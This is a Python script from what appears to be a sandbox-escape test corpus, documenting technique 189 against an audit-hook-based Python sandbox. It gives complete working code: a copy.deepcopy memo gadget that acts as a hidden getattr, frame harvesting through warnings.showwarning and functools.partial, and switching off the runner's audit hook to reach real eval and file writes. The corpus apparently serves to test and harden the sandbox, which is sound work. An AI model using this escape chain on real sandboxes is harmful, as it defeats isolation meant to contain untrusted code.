# technique: 188's getattr gadget (copy.deepcopy of a method descriptor with a substituting memo) gives the real sys; sys._getframe is still trusted by module (the hook passes it whenever the current frame is typing/enum/collections/warnings code), and warnings._showwarnmsg calls warnings.showwarning from its own frame: showwarning = functools.partial(set.update, found, map(sys._getframe, range(8))) (all C, no Python frame pushed) collects real frames there; f_back/f_locals (unaudited, read through the gadget) lead to the runner's run() frame and its `audit`; audit.armed = False switches the whole audit hook off: the real eval runs a string and open() writes a file
# source: 188 + 185 (warnings.showwarning C callable in a trusted frame), the sys._getframe trust not narrowed to code objects as object.__getattr__'s was
# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import copy
import dataclasses
import functools
import warnings


def real_getattr(obj, name):
    memo = {id(str): obj, id('join'): name}
    return copy.deepcopy(str.join, memo)


g = real_getattr(dataclasses.fields, dn('globals'))
sysm = g['sys']
check('real sys through the gadget', sysm)
getframe = real_getattr(sysm, '_get' + 'frame')
found = set()
warnings.showwarning = functools.partial(set.update, found, map(getframe, range(8)))
try:
    warnings.warn('x')
except BaseException as e:
    pass  # set.update fails on the message once the map is drained
frames = list(found)
print('frames collected:', len(frames))
audit = None
for fr in frames:
    while fr is not None and audit is None:
        loc = real_getattr(fr, 'f_' + 'locals')
        if 'audit' in loc and 'code' in loc and 'raw' in loc:
            check('runner run() frame', fr)
            audit = loc['audit']
        fr = real_getattr(fr, 'f_' + 'back')
if audit is not None:
    audit.armed = False
    b = g[dn('builtins')]
    src = dn('import') + '("os").getcwd()'
    attempt('real eval of a string (real __import__, os.getcwd) after disarming',
            lambda: b['eval'](src, {dn('builtins'): b}) and b['eval'])
    def w():
        f = b['open']('/tmp/ts_189', 'w')
        f.write('x')
        f.close()
        return b['open']
    attempt('open for writing after disarming', w)
else:
    print('BLOCKED no runner frame')
